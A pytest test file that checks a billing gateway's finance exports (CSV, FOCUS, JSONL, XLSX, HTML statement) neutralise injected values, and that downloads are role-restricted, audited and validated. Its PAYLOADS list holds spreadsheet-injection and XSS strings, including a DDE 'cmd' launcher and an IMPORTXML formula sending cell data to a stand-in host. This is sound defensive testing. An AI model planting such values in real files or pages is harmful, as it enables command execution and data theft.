"""Who may download a month, what is written down of it, and what does not run in anybody's spreadsheet."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest

from support import finance_oracle as oracle
from support.books import Books, opened_books
from support.downloads import download, get
from support.month import INSERT, entries, lay_out, roll_up
from support.options import Run
from support.tollgate import gateway


@pytest.fixture(scope="module")
def books(run: Run) -> Iterator[Books]:
    with opened_books(run) as books:
        yield books


PAYLOADS = [
    lead + text
    for lead in ("=", "+", "-", "@", "\t=", "\r=", " =", "\ufeff=", "\uff1d", "\uff0b")
    for text in (
        "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x/\",\"y\")", "SUM(1,2)*cmd", "DDE(\"a\";\"b\")", "A1;B1", "2+5,3",
        "IMPORTXML(CONCAT(\"http://x/\",A1))", "\n=2", "<script>alert(1)</script>", "&quot;'\"><img src=x onerror=y>", "WEBSERVICE(1)",
        "@SUM(1)", "-2+3", "+4", "'=1", "\"=1\"", "`id`", "{=1}", "0x1",
    )
]


def is_formula(text: str) -> bool:
    return text.lstrip(" \t\r\n\ufeff")[:1] in tuple("=+-@\uff1d\uff0b") if text else False


def test_two_hundred_payloads_stay_inert_in_every_format(run: Run, tmp_path: Path) -> None:
    """The Admin API refuses such names, so they are put into the database behind its back."""
    import openpyxl

    assert len(set(PAYLOADS)) == 200
    with gateway(run.binary) as server:
        month = lay_out(server, tenants=1)
        tenant = month.tenants[0].id
        for field in ("model", "pool"):
            asked = {"tenant_id": tenant, "amount": "1", "reason": "r", field: "=1+1"}
            assert server.admin.send("POST", f"/periods/{month.name}/corrections", asked).status == 400
        refused = [server.admin.send("POST", "/tenants", {"name": name}).status for name in PAYLOADS if is_formula(name)]
        assert set(refused) == {400}
        server.stop()
        with closing(sqlite3.connect(server.database)) as db:
            db.execute("UPDATE tenants SET name = ?, tags = ?", (PAYLOADS[0], json.dumps({name: name for name in PAYLOADS})))
            db.execute("UPDATE api_keys SET name = ?", (PAYLOADS[1],))
            rows = []
            for row, payload in zip(entries(month, 400, run.dice("payloads")), PAYLOADS * 2, strict=False):
                rows.append((*row[:5], payload, payload, payload, *row[8:]))
            db.executemany(INSERT, ((1 + place, *row) for place, row in enumerate(rows)))
            roll_up(db)
            db.commit()
        server.start()
        numbers = {"requests", "units", "estimated_units", "list_unit_price", "unit_price", "list_cost", "cost", "billed"}
        for format, query in (("csv", {"group_by": "key"}), ("csv", {"view": "upstream"}), ("focus-1.2", {}), ("focus-1.4", {})):
            found = oracle.table(download(server, month.name, format, **query))
            assert len(found) >= 200
            for row in found:
                for name, cell in row.items():
                    numeric = name in numbers or name.endswith(("Cost", "_cost", "Price", "Quantity", "Count"))
                    assert numeric or not is_formula(cell), (format, name, cell)
        for line in download(server, month.name, "jsonl").splitlines():
            json.loads(line)
        page = download(server, month.name, "statement").decode()
        assert "<script>" not in page and "<img" not in page and "&lt;script&gt;" in page
        path = tmp_path / "payloads.xlsx"
        path.write_bytes(download(server, month.name, "xlsx"))
        for sheet in openpyxl.load_workbook(path):
            assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row if cell.value != "")


def test_finance_downloads_and_each_download_is_audited(books: Books) -> None:
    admin = books.server.admin
    finance = admin.ok("POST", "/admin-keys", {"name": "books", "role": "finance"})
    viewer = admin.ok("POST", "/admin-keys", {"name": "eyes", "role": "viewer"})
    path = f"/exports/{books.month.name}?format=csv&tag=team:web"
    assert get(books.server, path, viewer["key"]).status == 403
    answer = get(books.server, path, finance["key"])
    assert answer.status == 200
    assert answer.headers["content-disposition"] == (
        f'attachment; filename="tollgate-{books.month.name}-csv-tag-team-web.csv"')
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    [record] = [row for row in admin.rows("/audit-log?action=export.download") if row["actor"] == finance["id"]]
    assert record["subject"] == books.month.name
    assert record["after"] == {"format": "csv", "tag": "team:web"}


def test_what_makes_no_sense_is_refused(books: Books) -> None:
    for tail, status in (
        ("?format=pdf", 400), ("?format=csv&file=invoice-detail", 400), ("?format=jsonl&profile=excel", 400),
        ("?format=xlsx&view=upstream", 400), ("?group_by=model", 400), ("?tenant_id=ten_none", 400), ("?tag=:x", 400),
        ("?format=csv&format=csv", 400), ("?through=x", 400), ("?nothing=1", 400),
    ):
        assert get(books.server, f"/exports/{books.month.name}{tail}").status == status, tail
    for period in ("2026-13", "2100-01", "26-10", "latest"):
        assert get(books.server, f"/exports/{period}").status == 404, period
